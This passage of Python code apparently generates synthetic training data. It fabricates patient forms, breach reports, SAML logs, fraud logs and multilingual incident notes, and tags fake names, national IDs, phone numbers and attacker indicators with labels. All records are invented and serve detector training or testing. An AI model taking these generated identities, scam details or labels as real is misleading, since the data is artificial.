    d.t("Threat model: Abnormal behavior: unusual amount of data accessed\nUser: ").put(I(c.ad, "HOSTNAME")).t("\\").put(I(c.uname(f, l), "USERNAME")) \
        .t(" (").put(I(f"{f} {l}", "NAME")).t(")\nDevice: ").put(I(c.host(), "HOSTNAME")).t(" (").put(I(ind.private_ipv4(R), "IP")) \
        .t(")\nFile server: ").put(I(c.fqdn(c.server()), "HOSTNAME")).t("\nSample paths:\n")
    for _ in range(rint(2, 4)):
        pf, pl = c.person()
        d.t("  \\\\").put(I(c.server(), "HOSTNAME")).t("\\HIM\\Scans\\").put(I(f"{pl} {pf}", "NAME")).t(" ").put(I(dob().replace("/", "-"), "DATE")).t(".pdf\n")
    d.t(f"Events: {rint(2000, 90000)} in 1 hour\n")
    if R.random() < 0.6:
        d.t("Related: outbound to ").put(X(ind.domain(R), "DOMAIN")).t(", hash ").put(X(ind.sha256(R), "SHA256")).t("\n")
    return d, "en_US"


def s_shib(c):
    d = Doc()
    k = Clock()
    for _ in range(rint(4, 8)):
        k.tick()
        f, l = c.person()
        sp = pick(["https://ehr.vendor-cloud.com/sp", "urn:amazon:webservices", "https://payroll.example-saas.com/saml"])
        src = I(ind.public_ipv4(R), "IP") if R.random() < 0.75 else X(ind.public_ipv4(R), "IPV4")
        d.put(LT(f"2026{k.m:02d}{k.d:02d}T{k.hms().replace(':', '')}Z")).t("|urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect|_") \
            .t(ind.hexstr(R, 16)).t(f"|{sp}|").t("https://idp.").put(I(c.domain, "HOSTNAME")).t("/idp/shibboleth|urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST|_") \
            .t(ind.hexstr(R, 16)).t("|").put(I(c.uname(f, l), "USERNAME")).t("|urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport|") \
            .put(I(c.email(f, l), "EMAIL")).t("|").put(src).t("|\n")
    return d, "en_US"


# ---------------------------------------------------------------- paperwork and messages

KE_NAMES = (["Wanjiru", "Otieno", "Achieng", "Kamau", "Njeri", "Mutua", "Chebet", "Kiprono"],
            ["Mwangi", "Odhiambo", "Wafula", "Kariuki", "Ochieng", "Kiptoo", "Njoroge", "Auma"])
KE_CITIES = ["Nakuru", "Kisumu", "Eldoret", "Thika", "Machakos", "Nyeri", "Kakamega"]
GH_NAMES = (["Kwabena", "Akosua", "Yaw", "Abena", "Kofi", "Efua", "Kwame", "Adwoa"],
            ["Mensah", "Boateng", "Owusu", "Asante", "Appiah", "Ofori", "Darko", "Acheampong"])
GH_CITIES = ["Kumasi", "Tamale", "Takoradi", "Cape Coast", "Sunyani", "Koforidua"]


def foreign_person(names, used):
    while True:
        a, b = pick(names[0]), pick(names[1])
        if (a, b) not in used:
            used.add((a, b))
            return a, b


def s_ke_sha(c):
    d = Doc()
    f, l = foreign_person(KE_NAMES, c.used)
    sf, sl = foreign_person(KE_NAMES, c.used)
    city = pick(KE_CITIES)
    org = f"{city} {pick(['Level 5 Hospital', 'County Referral Hospital', 'Medical Centre'])}"
    c.set_org(org, ind.slug(city) + pick(["hospital.co.ke", "health.go.ke"]))
    d.t("SOCIAL HEALTH AUTHORITY - PRE-AUTHORISATION REQUEST\nFacility: ").put(I(org, "ORG")).t("\nMember name: ") \
        .put(I(f"{l.upper()} {f}", "NAME")).t("\nSHA member no.: ").put(I(f"CR{rint(10 ** 9, 10 ** 10 - 1)}-{rint(1, 9)}", "HEALTH_PLAN")) \
        .t("\nNational ID: ").put(I(str(rint(20000000, 39999999)), "SSN")).t("\nDate of birth: ").put(I(dob("slash"), "DATE")) \
        .t("\nPhone: ").put(I(f"+254 7{rint(10, 99)} {rint(100, 999)} {rint(100, 999)}", "PHONE")).t("\nResidence: ") \
        .put(I(f"P.O. Box {rint(100, 9999)}-{rint(20100, 40200)}", "ADDRESS")).t(", ").put(I(city, "CITY")) \
        .t("\nIP no.: ").put(I(f"IP/{rint(2020, 2026)}/{rint(1000, 99999)}", "MRN")).t("\n\nSecurity note: the member reports an SMS from ") \
        .put(X(f"+254 7{rint(10, 99)} {rint(100, 999)} {rint(100, 999)}", "PHONE_ATTACKER")).t(" asking for an M-Pesa payment to till ") \
        .put(X(str(rint(100000, 999999)), "BANK_ATTACKER")).t(" to 'unlock' approval. Recorded by ").put(I(f"{sf} {sl}", "NAME")) \
        .t(", claims officer, ").put(I(f"{ind.slug(sf)}.{ind.slug(sl)}@{c.domain}", "EMAIL")).t(".\n")
    return d, "en_KE"


def s_gh_nhis(c):
    d = Doc()
    f, l = foreign_person(GH_NAMES, c.used)
    sf, sl = foreign_person(GH_NAMES, c.used)
    city = pick(GH_CITIES)
    org = f"{city} {pick(['Municipal Hospital', 'Polyclinic', 'Teaching Hospital'])}"
    c.set_org(org, ind.slug(city) + "hosp.gov.gh")
    d.t("NHIS CLAIM FORM (Form A) - ").put(I(org, "ORG")).t("\nSurname: ").put(I(l, "NAME")).t("   Other names: ").put(I(f, "NAME")) \
        .t("\nNHIS no.: ").put(I(str(rint(10 ** 7, 10 ** 8 - 1)), "HEALTH_PLAN")).t("   Ghana Card: ").put(I(f"GHA-{rint(10 ** 8, 10 ** 9 - 1)}-{rint(1, 9)}", "SSN")) \
        .t("\nDate of birth: ").put(I(dob("slash"), "DATE")).t("   Folder no.: ").put(I(f"{city[:2].upper()}/{rint(1000, 99999)}/{rint(20, 26)}", "MRN")) \
        .t("\nDigital address: ").put(I(f"{pick(['AK', 'NT', 'WS', 'CR'])}-{rint(100, 999)}-{rint(1000, 9999)}", "ADDRESS")).t(", ").put(I(city, "CITY")) \
        .t("\nTel: ").put(I(f"0{pick(['24', '54', '20', '55'])} {rint(100, 999)} {rint(1000, 9999)}", "PHONE")) \
        .t("\n\nRemarks: claim batch held - the claims PC ").put(I(c.host(), "HOSTNAME")).t(" showed a ").put(X(pick(ind.RANSOM), "MALWARE")) \
        .t(" note; a caller on ").put(X(f"0{pick(['24', '59', '27'])} {rint(100, 999)} {rint(1000, 9999)}", "PHONE_ATTACKER")) \
        .t(" posing as NHIA asked for MoMo to ").put(X(f"0{pick(['24', '55'])}{rint(1000000, 9999999)}", "BANK_ATTACKER")).t(".\nClaims officer: ") \
        .put(I(f"{sf} {sl}", "NAME")).t("\n")
    return d, "en_GH"


def s_br_sus(c):
    d = Doc()
    fk = FK["pt_BR"]
    f, l = fk.first_name(), fk.last_name()
    sf, sl = fk.first_name(), fk.last_name()
    city = pick(["Campinas", "Londrina", "Feira de Santana", "Juiz de Fora", "Uberlândia", "Caruaru"])
    org = f"Hospital Municipal de {city}"
    c.set_org(org, ind.slug(city) + ".saude.gov.br")
    cpf = f"{rint(100, 999)}.{rint(100, 999)}.{rint(100, 999)}-{rint(10, 99)}"
    d.t("NOTIFICAÇÃO DE INCIDENTE DE SEGURANÇA - ").put(I(org, "ORG")).t("\nPaciente: ").put(I(f"{f} {l}", "NAME")) \
        .t("\nCartão Nacional de Saúde (CNS): ").put(I(f"{rint(700, 899)} {rint(1000, 9999)} {rint(1000, 9999)} {rint(1000, 9999)}", "HEALTH_PLAN")) \
        .t("\nCPF: ").put(I(cpf, "SSN")).t("\nData de nascimento: ").put(I(dob("slash"), "DATE")).t("\nEndereço: ").put(I(fk.street_address(), "ADDRESS")) \
        .t(", ").put(I(city, "CITY")).t(" - CEP ").put(I(f"{rint(10000, 99999)}-{rint(100, 999)}", "ZIP")).t("\nTelefone: ") \
        .put(I(f"({rint(11, 99)}) 9{rint(1000, 9999)}-{rint(1000, 9999)}", "PHONE")) \
        .t("\n\nDescrição: a paciente recebeu mensagem de ").put(X(f"({rint(11, 99)}) 9{rint(1000, 9999)}-{rint(1000, 9999)}", "PHONE_ATTACKER")) \
        .t(" pedindo um Pix para a chave ").put(X(ind.attacker_email(R), "BANK_ATTACKER")).t(" e com link ").put(X(ind.url(R), "URL")) \
        .t(". O computador ").put(I(c.host(), "HOSTNAME")).t(" da recepção foi isolado.\nResponsável: ").put(I(f"{sf} {sl}", "NAME")).t("\n")
    return d, "pt_BR"


def s_de_egk(c):
    d = Doc()
    fk = FK["de_DE"]
    f, l = fk.first_name(), fk.last_name()
    sf, sl = fk.first_name(), fk.last_name()
    city = pick(["Bielefeld", "Würzburg", "Kassel", "Rostock", "Göttingen", "Ulm", "Trier"])
    org = f"Klinikum {city}"
    c.set_org(org, "klinikum-" + ind.slug(city) + ".de")
    kvnr = f"{pick('ABCDEFGHKLMNPRSTVWZ')}{rint(10 ** 8, 10 ** 9 - 1)}"
    d.t("Meldung einer Datenschutzverletzung (Art. 33 DSGVO)\nVerantwortlicher: ").put(I(org, "ORG")).t("\nBetroffene Person: ") \
        .put(I(f"{l}, {f}", "NAME")).t(", geb. ").put(I(dob("dot"), "DATE")).t("\nKrankenversichertennummer (eGK): ").put(I(kvnr, "HEALTH_PLAN")) \
        .t("\nAnschrift: ").put(I(fk.street_address(), "ADDRESS")).t(", ").put(I(f"{rint(10000, 99999)}", "ZIP")).t(" ").put(I(city, "CITY")) \
        .t("\nFallnummer: ").put(I(str(rint(10 ** 7, 10 ** 8)), "MRN")).t("\n\nSachverhalt: Über den Kartenleser am Arbeitsplatz ") \
        .put(I(c.host(), "HOSTNAME")).t(" (").put(I(ind.private_ipv4(R), "IP")).t(") wurden Versichertenstammdaten an ").put(X(ind.domain(R), "DOMAIN")) \
        .t(" übertragen; Schadsoftware ").put(X(pick(ind.MALWARE), "MALWARE")).t(".\nAnsprechpartner: ").put(I(f"{sf} {sl}", "NAME")) \
        .t(", Tel. ").put(I(f"0{rint(300, 999)} {rint(100, 999)}-{rint(1000, 9999)}", "PHONE")).t("\n")
    return d, "de_DE"


def s_mx_imss(c):
    d = Doc()
    fk = FK["es_MX"]
    f, l = fk.first_name(), fk.last_name()
    sf, sl = fk.first_name(), fk.last_name()
    city = pick(["Hermosillo", "Morelia", "Saltillo", "Tuxtla Gutiérrez", "Culiacán", "Querétaro"])
    org = f"Hospital General de Zona No. {rint(1, 99)} {city}"
    c.set_org(org, "hgz-" + ind.slug(city) + ".imss.example.mx")
    curp = "".join(pick("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(4)) + digits(6) + pick("HM") + "".join(pick("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(5)) + digits(2)
    d.t("REPORTE DE INCIDENTE - ").put(I(org, "ORG")).t("\nDerechohabiente: ").put(I(f"{f} {l}", "NAME")).t("\nNSS: ") \
        .put(I(f"{rint(10, 99)}{rint(10, 99)}-{rint(10, 99)}-{rint(1000, 9999)}-{rint(0, 9)}", "HEALTH_PLAN")).t("\nCURP: ").put(I(curp, "SSN")) \
        .t("\nFecha de nacimiento: ").put(I(dob("slash"), "DATE")).t("\nDomicilio: ").put(I(fk.street_address(), "ADDRESS")).t(", C.P. ").put(I(f"{rint(10000, 99999)}", "ZIP")) \
        .t(", ").put(I(city, "CITY")).t("\nCelular: ").put(I(f"{rint(33, 999)} {rint(100, 999)} {rint(1000, 9999)}", "PHONE")) \
        .t("\n\nHechos: la derechohabiente recibió una llamada de ").put(X(f"{rint(33, 999)} {rint(100, 999)} {rint(1000, 9999)}", "PHONE_ATTACKER")) \
        .t(" que pidió un depósito a la CLABE ").put(X(digits(18), "BANK_ATTACKER")).t(". Atendió: ").put(I(f"{sf} {sl}", "NAME")).t(" (matrícula ") \
        .put(I(str(rint(10 ** 7, 10 ** 8)), "LICENSE")).t(")\n")
    return d, "es_MX"


def s_nz_nhi(c):
    d = Doc()
    fk = FK["en_NZ"]
    f, l = fk.first_name(), fk.last_name()
    sf, sl = fk.first_name(), fk.last_name()
    city = pick(["Hamilton", "Tauranga", "Dunedin", "Palmerston North", "Nelson", "Whangārei"])
    org = f"{city} {pick(['Medical Centre', 'Hospital', 'Health Centre'])}"
    c.set_org(org, ind.slug(city) + "health.co.nz")
    nhi = "".join(pick("ABCDEFGHJKLMNPQRSTUVWXYZ") for _ in range(3)) + digits(2) + "".join(pick("ABCDEFGHJKLMNPQRSTUVWXYZ") for _ in range(2))
    d.t("Privacy breach report - ").put(I(org, "ORG")).t("\nPatient: ").put(I(f"{f} {l}", "NAME")).t("   NHI: ").put(I(nhi, "HEALTH_PLAN")) \
        .t("\nDOB: ").put(I(dob("slash"), "DATE")).t("\nAddress: ").put(I(fk.street_address(), "ADDRESS")).t(", ").put(I(city, "CITY")).t(" ") \
        .put(I(f"{rint(1000, 9999)}", "ZIP")).t("\nMobile: ").put(I(f"02{rint(0, 9)} {rint(100, 999)} {rint(1000, 9999)}", "PHONE")) \
        .t("\n\nWhat happened: a practice e-mail account (").put(I(f"{ind.slug(sf)}@{c.domain}", "EMAIL")).t(") was signed into from ") \
        .put(X(ind.public_ipv4(R), "IPV4")).t(" and forwarded referrals to ").put(X(ind.attacker_email(R), "EMAIL_ATTACKER")) \
        .t(". Reported to the Privacy Commissioner by ").put(I(f"{sf} {sl}", "NAME")).t(".\n")
    return d, "en_NZ"


def s_hhs_letter(c):
    d = Doc()
    f, l = c.person()
    pf, pl = c.person()
    d.t("U.S. Department of Health and Human Services\nOffice for Civil Rights\n\n").put(N(f"{MON[rint(0, 11)]} {rint(1, 28)}, 2026", "LETTER_DATE")) \
        .t("\n\n").put(I(f"{f} {l}", "NAME")).t(", Privacy Officer\n").put(I(c.name, "ORG")).t("\n").put(I(us_street(), "ADDRESS")).t("\n") \
        .put(I(c.city, "CITY")).t(f", {c.state} ").put(I(us_zip(), "ZIP")).t("\n\nRe: Compliance review, transaction number ").t(f"{rint(20, 26)}-{rint(100000, 999999)}") \
        .t("\n\nDear ").put(N("Mr." if R.random() < 0.5 else "Ms.", "TITLE")).t(" ").put(I(l, "NAME")) \
        .t(":\n\nFinding 1. The risk analysis did not cover the server ").put(I(c.fqdn(c.server()), "HOSTNAME")) \
        .t(", from which ").put(X(pick(ind.RANSOM), "MALWARE")).t(" encrypted records. Finding 2. Access reports showed workforce member ") \
        .put(I(c.uname(pf, pl), "USERNAME")).t(" viewing the record of ").put(I(f"{c.person()[0]} {c.person()[1]}", "NAME")) \
        .t(" without a need. Please send your corrective action plan to this office.\n\nSincerely,\nRegional Manager\n")
    return d, "en_US"


def s_pwreset(c):
    d = Doc()
    k = Clock()
    d.t("Service desk - password reset call-back log\n\nTime | Caller claims to be | Extension on file | Call-back to | Outcome\n")
    for _ in range(rint(4, 7)):
        k.tick()
        f, l = c.person()
        ext = f"x{rint(2000, 7999)}"
        fraud = R.random() < 0.35
        d.put(LT(k.usdt())).t(" | ").put(I(f"{f} {l}", "NAME")).t(" (").put(I(c.uname(f, l), "USERNAME")).t(") | ").put(I(ext, "PHONE")).t(" | ")
        if fraud:
            d.put(X(us_phone(), "PHONE_ATTACKER")).t(" | refused: caller asked for call-back to a number not on file\n")
        else:
            d.put(I(ext, "PHONE")).t(" | verified, reset\n")
    return d, "en_US"


def s_returned(c):
    d = Doc()
    d.t("Breach notification mailing - returned mail log\nMailed by: ").put(I(c.name, "ORG")).t("\n\nBatch | Addressee | Address | City | State | ZIP | Reason\n")
    for _ in range(rint(5, 9)):
        f, l = c.person()
        city, st = pick(US_CITIES)
        d.t(f"{rint(1, 9)} | ").put(I(f"{l.upper()}, {f.upper()}", "NAME")).t(" | ").put(I(us_street(), "ADDRESS")).t(" | ") \
            .put(I(city, "CITY")).t(f" | {st} | ").put(I(us_zip(), "ZIP")).t(" | ").t(pick(["Unable to forward", "Deceased", "No such number", "Moved, left no address"])).t("\n")
    return d, "en_US"


def s_merge(c):
    d = Doc()
    f, l = c.person()
    sf, sl = c.person()
    m1, m2 = mrn(), mrn()
    dd = dob()
    d.t("Patient portal account merge request\nRequested by: ").put(I(f"{sf} {sl}", "NAME")).t(", HIM\n\nAccount A: ").put(I(f"{ind.slug(f)}{rint(1, 99)}", "USERNAME")) \
        .t(" linked to MRN ").put(I(m1, "MRN")).t(", ").put(I(f"{f} {l}", "NAME")).t(", DOB ").put(I(dd, "DATE")).t("\nAccount B: ") \
        .put(I(f"{ind.slug(l)}.{ind.slug(f)[:1]}", "USERNAME")).t(" linked to MRN ").put(I(m2, "MRN")).t(", same name and DOB, e-mail ") \
        .put(I(f"{ind.slug(f)}{ind.slug(l)}@yahoo.com", "EMAIL")).t("\nProxy record: ").put(I(pat_url(c, m2), "URL")) \
        .t("\n\nReason: duplicate created at kiosk. Hold: account B was registered from ").put(X(ind.public_ipv4(R), "IPV4")) \
        .t(" with recovery address ").put(X(ind.attacker_email(R), "EMAIL_ATTACKER")).t(", see ticket ").t(f"INC{rint(100000, 999999)}.\n")
    return d, "en_US"


def s_wirerecall(c):
    d = Doc()
    f, l = c.person()
    d.t("FUNDS RECALL REQUEST\nOriginator: ").put(I(c.name, "ORG")).t("\nOriginator account: ").put(I(digits(10), "ACCOUNT")) \
        .t("\nAuthorised contact: ").put(I(f"{f} {l}", "NAME")).t(", Controller, ").put(I(us_phone(), "PHONE")) \
        .t("\n\nBeneficiary bank: ").t(pick(["Pinnacle Trust", "Coastline Bank", "Evergreen Federal"])).t("\nBeneficiary account: ") \
        .put(X(digits(rint(9, 12)), "BANK_ATTACKER")).t("   Routing: ").put(X(digits(9), "BANK_ATTACKER")).t("\nAmount: USD ").t(f"{rint(20, 900)},{rint(100, 999)}.00") \
        .t("\n\nReason: payment sent on instructions from ").put(X(ind.attacker_email(R, free=False), "EMAIL_ATTACKER")) \
        .t(", a look-alike of our vendor; the instructions were confirmed by phone at ").put(X(us_phone(), "PHONE_ATTACKER")) \
        .t(", which the vendor does not use.\n")
    return d, "en_US"


def s_simswap(c):
    d = Doc()
    f, l = c.person()
    d.t("AFFIDAVIT OF UNAUTHORIZED SIM CHANGE\n\nI, ").put(I(f"{f} {l}", "NAME")).t(", of ").put(I(us_street(), "ADDRESS")).t(", ") \
        .put(I(c.city, "CITY")).t(f", {c.state} ").put(I(us_zip(), "ZIP")).t(", state that on ").put(I(dob(), "DATE")) \
        .t(" my mobile number ").put(I(us_phone(), "PHONE")).t(" was moved to a SIM I did not request. Account no. ").put(I(digits(9), "ACCOUNT")) \
        .t(". The next day my employer, ").put(I(c.name, "ORG")).t(", saw sign-ins to my account ").put(I(c.email(f, l), "EMAIL")) \
        .t(" from ").put(X(ind.public_ipv4(R), "IPV4")).t(". A caller from ").put(X(us_phone(), "PHONE_ATTACKER")) \
        .t(" had earlier asked me for a code. I believe the group known as ").put(X(pick(ACTORS), "ACTOR")).t(" is behind it.\n\nSigned: ") \
        .put(I(f"{f} {l}", "NAME")).t("\n")
    return d, "en_US"


def s_diversion(c):
    d = Doc()
    f, l = c.person()
    inv, inl = c.person()
    d.t("Drug diversion investigation - summary\nFacility: ").put(I(c.name, "ORG")).t("\nSubject: ").put(I(f"{f} {l}", "NAME")) \
        .t(", RN, badge ").put(I(str(rint(10000, 99999)), "ACCOUNT")).t(", licence ").put(I(f"RN{rint(100000, 999999)}", "LICENSE")) \
        .t("\nInvestigator: ").put(I(f"{inv} {inl}", "NAME")).t("\n\nFindings: ")
    for _ in range(rint(2, 3)):
        pf, pl = c.person()
        d.t("withdrawal of hydromorphone for ").put(I(f"{pf} {pl}", "NAME")).t(" (MRN ").put(I(mrn(), "MRN")).t(") at ") \
            .put(I(f"{rint(1, 12)}/{rint(1, 28)}/2026 {rint(0, 23):02d}:{rint(0, 59):02d}", "DATETIME")).t(" without an order; ")
    d.t("cabinet ").put(I(f"{c.short}-ADC-{rint(1, 40):02d}", "HOSTNAME")).t(". Vehicle ").put(I(f"{pick(['7', '8'])}{''.join(pick('ABCDEFGHJKLMNPRSTUVWXYZ') for _ in range(3))}{rint(100, 999)}", "VEHICLE")) \
        .t(" noted in the garage during off-shift visits.\n")
    return d, "en_US"


def s_misfax(c):
    d = Doc()
    k = Clock()
    d.t("Misdirected fax log - ").put(I(c.name, "ORG")).t("\n\nDate/time | Sender | Patient | Intended fax | Dialled fax | Retrieved\n")
    for _ in range(rint(3, 6)):
        k.tick()
        f, l = c.person()
        pf, pl = c.person()
        d.put(LT(k.usdt())).t(" | ").put(I(f"{f[0]}. {l}", "NAME")).t(" | ").put(I(f"{pl}, {pf}", "NAME")).t(" DOB ").put(I(dob(), "DATE")) \
            .t(" | ").put(I(us_phone(), "FAX")).t(" | ").put(I(us_phone(), "FAX")).t(" | ").t(pick(["yes", "no", "attestation pending"])).t("\n")
    if R.random() < 0.5:
        d.t("\nAlso received: a fax from ").put(X(us_phone(), "PHONE_ATTACKER")).t(" asking staff to re-enter credentials at ").put(X(ind.url(R), "URL")).t("\n")
    return d, "en_US"


# ---------------------------------------------------------------- incident notes, 20 languages

LANGS = {
    "bi": dict(loc="bi_VU", g=["Jimmy", "Leiwia", "Serah", "Kalo", "Marie", "Nelly", "Tom"], s=["Tari", "Kalsakau", "Natapei", "Molisa", "Bule", "Tabi", "Vira"],
               c=["Port Vila", "Luganville", "Isangel", "Lakatoro"], st=["Rue {n} Kumul Highway", "Namba {n} Lini Highway"], ph="+678 5{a2} {a4}", df="slash",
               A="Pasen {pat} (bon {dob}, namba blong fael {mrn}) we i stap long {addr}, {city}, i kasem wan kol long namba {aphone}; man ia i askem mani mo namba blong aedentiti.",
               B="Kompiuta {host} ({ip}) blong yusa {user} i sendem fael i go long {dom}.", C="Ripot i kam long {staff}, fon {phone}.", H="Not blong insiden"),
    "tet": dict(loc="tet_TL", g=["Joaquim", "Mariana", "Domingos", "Filomena", "Zeferino", "Ermelinda"], s=["da Costa", "Soares", "Ximenes", "Guterres", "Amaral", "Pinto"],
                c=["Dili", "Baucau", "Maliana", "Suai"], st=["Rua {n} de Comoro", "Rua Bidau {n}"], ph="+670 77{a2} {a4}", df="slash",
                A="Pasiente {pat} (moris iha {dob}, numeru rejistu {mrn}), hela iha {addr}, {city}, simu telefone husi {aphone}; ema ne'e husu osan no numeru identidade.",
                B="Komputador {host} ({ip}) husi uzuáriu {user} haruka dadus ba {dom}.", C="Relatóriu husi {staff}, telefone {phone}.", H="Nota insidente"),
    "rn": dict(loc="rn_BI", g=["Nadine", "Eric", "Aline", "Pacifique", "Divine", "Gilbert"], s=["Ndayishimiye", "Niyonzima", "Nshimirimana", "Hakizimana", "Irakoze", "Bizimana"],
               c=["Gitega", "Bujumbura", "Ngozi", "Muyinga"], st=["Avenue {n} Rohero", "Quartier Kinindo {n}"], ph="+257 7{a1} {a2} {a2} {a2}", df="slash",
               A="Umugwayi {pat} (yavutse {dob}, inomero y'idosiye {mrn}) aba kuri {addr}, {city}, yahamagawe na {aphone}; uwo muntu yasavye amafaranga n'inomero y'indangamuntu.",
               B="Orudaditeri {host} ({ip}) y'ukoresha {user} yarungitse amakuru kuri {dom}.", C="Vyanditswe na {staff}, terefone {phone}.", H="Icabaye"),
    "ts": dict(loc="ts_ZA", g=["Tsakani", "Hlulani", "Nyiko", "Ntsako", "Rhulani", "Kulani"], s=["Baloyi", "Mathebula", "Chauke", "Maluleke", "Shivambu", "Ngobeni"],
               c=["Giyani", "Malamulele", "Tzaneen", "Elim"], st=["{n} Nkuna Street", "Stand {n} Section A"], ph="+27 7{a1} {a3} {a4}", df="slash",
               A="Muvabyi {pat} (u velekiwe {dob}, nomboro ya rekhodo {mrn}) u tshama eka {addr}, {city}, u ringeriwe hi {aphone}; munhu loyi u kombele mali na nomboro ya vutitivisi.",
               B="Khompyuta {host} ({ip}) ya mutirhisi {user} yi rhumele data eka {dom}.", C="Xiviko xi suka eka {staff}, riqingho {phone}.", H="Xiviko xa xiendlakalo"),
    "ve": dict(loc="ve_ZA", g=["Mpho", "Rudzani", "Livhuwani", "Ndivhuwo", "Takalani", "Mashudu"], s=["Netshitenzhe", "Mudau", "Ramabulana", "Nemukula", "Tshivhase", "Munyai"],
               c=["Thohoyandou", "Makhado", "Musina", "Sibasa"], st=["{n} Mphephu Street", "Stand {n} Shayandima"], ph="+27 8{a1} {a3} {a4}", df="slash",
               A="Mulwadze {pat} (o bebwa {dob}, nomboro ya rekhodo {mrn}) u dzula kha {addr}, {city}, o founelwa nga {aphone}; muthu onoyo o humbela tshelede na nomboro ya vhuṱalukanyi.",
               B="Khomphyutha {host} ({ip}) ya mushumisi {user} yo rumela data kha {dom}.", C="Muvhigo u bva kha {staff}, luṱingo {phone}.", H="Muvhigo wa tshiitea"),
    "ss": dict(loc="ss_SZ", g=["Sibusiso", "Nomcebo", "Thembeka", "Mandla", "Lindiwe", "Sipho"], s=["Dlamini", "Simelane", "Magagula", "Nxumalo", "Mamba", "Shongwe"],
               c=["Mbabane", "Manzini", "Nhlangano", "Siteki"], st=["Plot {n} Msunduza", "{n} Dzeliwe Street"], ph="+268 76{a2} {a4}", df="slash",
               A="Sigulane {pat} (watalwa {dob}, inombolo yelirekhodi {mrn}) uhlala ku {addr}, {city}, washayelwa ngu {aphone}; lomuntfu wacela imali nenombolo yemazisi.",
               B="Ikhompyutha {host} ({ip}) yemsebentisi {user} itfumele idatha ku {dom}.", C="Umbiko uvela ku {staff}, lucingo {phone}.", H="Umbiko wesehlakalo"),
    "aa": dict(loc="aa_ET", g=["Fatuma", "Hasan", "Aysha", "Mohammed", "Halima", "Ibrahim"], s=["Hummad", "Dawud", "Kaloyta", "Mahammad", "Ahmed", "Yayyo"],
               c=["Semera", "Asaita", "Logiya", "Dubti"], st=["Kebele {n}", "Ganda {n}"], ph="+251 9{a2} {a3} {a3}", df="slash",
               A="Sakaaytu {pat} (yoobbe {dob}, galo lowo {mrn}) {addr}, {city} jira, {aphone} lowok seecen; tama num lacag kee eenitte lowo essere.",
               B="Kombiyuuter {host} ({ip}) kah xoqoysa {user} ixxima {dom} fan rubte.", C="Warsa {staff} kinni, silkiin {phone}.", H="Warsa"),
    "kg": dict(loc="kg_CD", g=["Nsimba", "Mpemba", "Luzolo", "Makiese", "Lukombo", "Nkenda"], s=["Kiala", "Mavungu", "Nzuzi", "Mbemba", "Ndombasi", "Lutete"],
               c=["Matadi", "Mbanza-Ngungu", "Boma", "Kimpese"], st=["Avenue {n} Kinkanda", "Quartier Soyo {n}"], ph="+243 8{a1} {a3} {a4}", df="slash",
               A="Mbevo {pat} (wabutuka {dob}, numero ya dosie {mrn}) yena kuzinga na {addr}, {city}, bambingaka yandi na {aphone}; muntu yina lombaka mbongo ti numero ya kalati.",
               B="Ordinatere {host} ({ip}) ya musadisi {user} tindaka bansangu na {dom}.", C="Rapore ya {staff}, telefone {phone}.", H="Rapore"),
    "mh": dict(loc="mh_MH", g=["Jeton", "Lijon", "Kino", "Dolores", "Hilda", "Alson"], s=["Kabua", "deBrum", "Anjain", "Heine", "Kattil", "Laijo"],
               c=["Majuro", "Ebeye", "Jabor", "Laura"], st=["Lot {n} Delap", "Lot {n} Rita"], ph="+692 455-{a4}", df="slash",
               A="Armej in nañinmej {pat} (ļotak {dob}, nõmba in rekoot {mrn}) ej jokwe ilo {addr}, {city}, ekar kūr jān {aphone}; armej eo ekar kajjitõk kōn jããn im nõmba in ID.",
               B="Kompiuta {host} ({ip}) an {user} ekar jilkinļok data ñan {dom}.", C="Ripoot jān {staff}, taļboon {phone}.", H="Ripoot"),
    "gil": dict(loc="gil_KI", g=["Taneti", "Kaureata", "Tebwaa", "Tiaontin", "Rimeta", "Teema"], s=["Maamau", "Teannaki", "Beniamina", "Tabai", "Tokataake", "Kirata"],
                c=["Betio", "Bairiki", "Bikenibeu", "Bonriki"], st=["Abaiang Road {n}", "Lot {n} Teaoraereke"], ph="+686 73{a3}{a3}", df="slash",
                A="Te aoraki {pat} (bungiaki {dob}, nambwa n te rekoot {mrn}) e maeka i {addr}, {city}, e a wetiaki man {aphone}; te aomata anne e butiia te mwane ao nambwan te ID.",
                B="Te kambiuta {host} ({ip}) are an {user} e kanakoa te rongorongo nakon {dom}.", C="Te ripoti mairoun {staff}, tareboon {phone}.", H="Te ripoti"),
    "sah": dict(loc="sah_RU", g=["Айаал", "Сардаана", "Мичил", "Туйаара", "Эрхан", "Нюргуяна"], s=["Винокуров", "Сивцев", "Слепцов", "Охлопков", "Местников", "Егоров"],
                c=["Якутск", "Нерюнгри", "Мирнэй", "Бүлүү"], st=["Ленин уулусса, {n}", "Орджоникидзе уулусса, {n}"], ph="+7 914 {a3}-{a2}-{a2}", df="dot",
                A="Ыарыһах {pat} (төрөөбүтэ {dob}, карта нүөмэрэ {mrn}) {addr}, {city} олорор, кинини {aphone} нүөмэртэн төлөпүөннээбиттэр; ол киһи харчы уонна паспорт нүөмэрин көрдөөбүт.",
                B="{user} туттааччы {host} ({ip}) компьютера {dom} диэки дааннайы ыыппыт.", C="Суруйда {staff}, төлөпүөн {phone}.", H="Түбэлтэ"),
    "cv": dict(loc="cv_RU", g=["Илем", "Нарспи", "Улап", "Атнер", "Элли", "Сетнер"], s=["Андреев", "Ефимов", "Никитин", "Павлов", "Семенов", "Кузьмин"],
               c=["Шупашкар", "Ҫӗнӗ Шупашкар", "Канаш", "Улатӑр"], st=["Ленин урамӗ, {n}", "Гагарин урамӗ, {n}"], ph="+7 917 {a3}-{a2}-{a2}", df="dot",
               A="Чирлӗ {pat} ({dob} ҫуралнӑ, карта номерӗ {mrn}) {addr}, {city} пурӑнать, ӑна {aphone} номертан шӑнкӑравланӑ; ҫав ҫын укҫа тата паспорт номерне ыйтнӑ.",
               B="{user} усӑҫӑн {host} ({ip}) компьютерӗ {dom} ҫине даннӑйсем янӑ.", C="Ҫырнӑ {staff}, телефон {phone}.", H="Пулӑм"),
    "ba": dict(loc="ba_RU", g=["Айгөл", "Салауат", "Зөһрә", "Ильдар", "Гөлнара", "Азат"], s=["Ғәлиев", "Хәсәнов", "Ишмөхәмәтов", "Йосопов", "Сафин", "Ҡужин"],
